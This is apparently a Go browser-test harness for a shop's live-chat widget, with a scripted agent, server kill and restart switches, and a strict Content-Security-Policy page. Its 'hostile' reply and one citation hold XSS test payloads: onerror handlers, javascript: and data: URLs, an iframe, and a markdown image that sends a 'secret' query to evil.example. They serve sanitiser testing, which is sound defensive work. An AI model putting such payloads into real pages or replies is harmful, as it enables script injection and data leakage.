//go:build browser

package browsertest_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/frontdesk-go/frontdesk/channel"
	"github.com/frontdesk-go/frontdesk/channel/channeltest"
	"github.com/frontdesk-go/frontdesk/channel/livechat"
)

// A site is a shop with a live chat and a scripted agent behind it. Its desk is
// durable: it outlives every kill of the server.
type site struct {
	t    *testing.T
	addr string
	desk channeltest.Desk

	mu      sync.Mutex
	chat    *livechat.Chat
	kill    func()
	stored  []string
	pending map[string]channel.Message // stored and not answered, by ID
	thread  string                     // that spoke last
}

// newSite serves a site until the test ends, and returns the flags of a script.
func newSite(t *testing.T) (*site, []string) {
	s := &site{t: t, pending: make(map[string]channel.Message)}
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	s.addr = listener.Addr().String()
	s.start(listener)
	control := httptest.NewServer(http.HandlerFunc(s.control))
	t.Cleanup(func() {
		control.Close()
		s.kill()
	})
	return s, []string{"--base", "http://" + s.addr, "--control", control.URL}
}

// start runs the server, as a new process would: only the desk is the old one.
func (s *site) start(listener net.Listener) {
	chat, err := livechat.New(livechat.Config{
		Key:       []byte("0123456789abcdef0123456789abcdef"),
		Title:     "Harbour Supply",
		Greeting:  "Ahoy! What can we do for you?",
		AgentName: "Skipper",
		Accent:    "#0b5c6b",
		Poll:      100 * time.Millisecond,
	})
	require.NoError(s.t, err)
	chat.Attach(&s.desk)
	mux := http.NewServeMux()
	mux.Handle("/chat/", http.StripPrefix("/chat", chat))
	mux.HandleFunc("GET /{$}", page)
	mux.HandleFunc("GET /page.css", pageStyle)
	server := &http.Server{Handler: mux}
	ctx, cancel := context.WithCancel(s.t.Context())
	go server.Serve(listener)
	go chat.Receive(ctx, func(_ context.Context, m channel.Message) error { return s.receive(ctx, m) })

	s.mu.Lock()
	defer s.mu.Unlock()
	s.chat = chat
	s.kill = func() { cancel(); server.Close() }
	for _, m := range s.pending {
		go s.answer(ctx, chat, m)
	}
}

func (s *site) receive(ctx context.Context, m channel.Message) error {
	if !s.desk.Add(m) {
		return nil
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.stored = append(s.stored, m.Text)
	s.pending[m.ID] = m
	s.thread = m.Thread
	go s.answer(ctx, s.chat, m)
	return nil
}

// answer writes word by word and then commits, unless it is killed before.
func (s *site) answer(ctx context.Context, chat *livechat.Chat, m channel.Message) {
	reply, pace := script(m)
	chat.Typing(ctx, m.Thread)
	words := strings.SplitAfter(reply.Text, " ")
	for i := range words {
		select {
		case <-ctx.Done():
			return
		case <-time.After(pace):
		}
		chat.Draft(ctx, m.Thread, strings.Join(words[:i+1], ""))
	}
	owner := channel.ByAgent
	if m.WantsPerson {
		owner = channel.Queued
	}
	s.mu.Lock()
	delete(s.pending, m.ID)
	s.mu.Unlock()
	s.desk.Pass(m.Thread, owner)
	s.say(reply)
}

// say commits a message and sends it.
func (s *site) say(m channel.Message) {
	m.At = time.Now()
	s.desk.Add(m)
	s.mu.Lock()
	chat := s.chat
	s.mu.Unlock()
	require.NoError(s.t, chat.Send(s.t.Context(), m))
}

// control serves the switches that the scripts use.
func (s *site) control(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	kill, stored, thread := s.kill, append([]string{}, s.stored...), s.thread
	s.mu.Unlock()
	switch r.URL.Path {
	case "/kill":
		kill()
	case "/start":
		listener, err := net.Listen("tcp", s.addr)
		require.NoError(s.t, err)
		s.start(listener)
	case "/person":
		s.desk.Pass(thread, channel.ByPerson)
		s.say(channel.Message{ID: "person", Thread: thread, Author: channel.Person,
			From: channel.Party{Name: "Ana"}, Text: "Hi, this is Ana. I have your order in front of me. What happened?"})
	case "/close":
		s.desk.Pass(thread, channel.Closed)
		s.say(channel.Message{ID: "close", Thread: thread, Author: channel.System, Text: "Ana closed this conversation."})
	}
	json.NewEncoder(w).Encode(stored)
}

// script returns what the agent says to m and how long it takes for a word.
func script(m channel.Message) (channel.Message, time.Duration) {
	reply := channel.Message{ID: "re " + m.ID, Thread: m.Thread, Author: channel.Agent, Text: "You wrote: " + strings.ToUpper(m.Text)}
	pace := 12 * time.Millisecond
	switch {
	case m.WantsPerson:
		reply.Text = "I have passed this to my colleagues. **You need not repeat anything**: they can read our conversation."
	case strings.Contains(m.Text, "return"):
		reply.Text = returns
		reply.Citations = []channel.Citation{
			{Title: "Returns and exchanges", URL: "/help/returns#deadline", Quote: "You may return most items within 30 days of delivery."},
			{Title: "Refunds", URL: "/help/refunds", Quote: "We refund within 5 working days."},
		}
	case strings.Contains(m.Text, "<img"):
		reply.Text = hostile
		reply.Citations = []channel.Citation{{Title: "<b>A source</b>", URL: "javascript:window.hit=3", Quote: `"><img src=x onerror=window.hit=4>`}}
	}
	if strings.Contains(m.Text, "slowly") {
		pace = 150 * time.Millisecond
	}
	return reply, pace
}

const returns = `You have **30 days** from delivery to return an order, as long as it is unused.

1. Open your order and choose *Return items*.
2. Print the label, which is free.
3. Hand the parcel in at any post office.

Refunds arrive within 5 working days.`

const hostile = `<img src=x onerror=window.hit=5> ![a picture](https://evil.example/?q=secret)
[one](javascript:window.hit=6) [two](data:text/html,<script>window.hit=7</script>) [three](https://user@evil.example/)
[fine](https://fine.example/a_(b)) https://fine.example/bare.
<iframe src="https://evil.example"></iframe> <a href="https://evil.example" onclick="window.hit=8">four</a>
[five](JaVaScRiPt:window.hit=9) [six]( javascript:window.hit=10) <javascript:window.hit=11>`

func page(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Security-Policy",
		"default-src 'none'; script-src 'self'; connect-src 'self'; style-src 'self'; require-trusted-types-for 'script'")
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	fmt.Fprint(w, `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Harbour Supply</title>
<meta name="viewport" content="width=device-width, initial-scale=1"><link rel="stylesheet" href="page.css">
<script src="chat/widget.js" defer></script></head>
<body><main><h1>Harbour Supply</h1><p>Rope, canvas and brass for boats of every size, since 1931.</p>
<p>Orders before noon leave the same day.</p></main></body></html>`)
}

func pageStyle(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "text/css; charset=utf-8")
	fmt.Fprint(w, `:root { color-scheme: light dark; font: 17px/1.6 Georgia, serif; }
body { margin: 0; background: light-dark(#f3efe6, #14191c); } main { max-width: 34rem; padding: 12vh 8vw; }
h1 { font-size: 3rem; line-height: 1.1; margin: 0 0 1rem; }`)
}
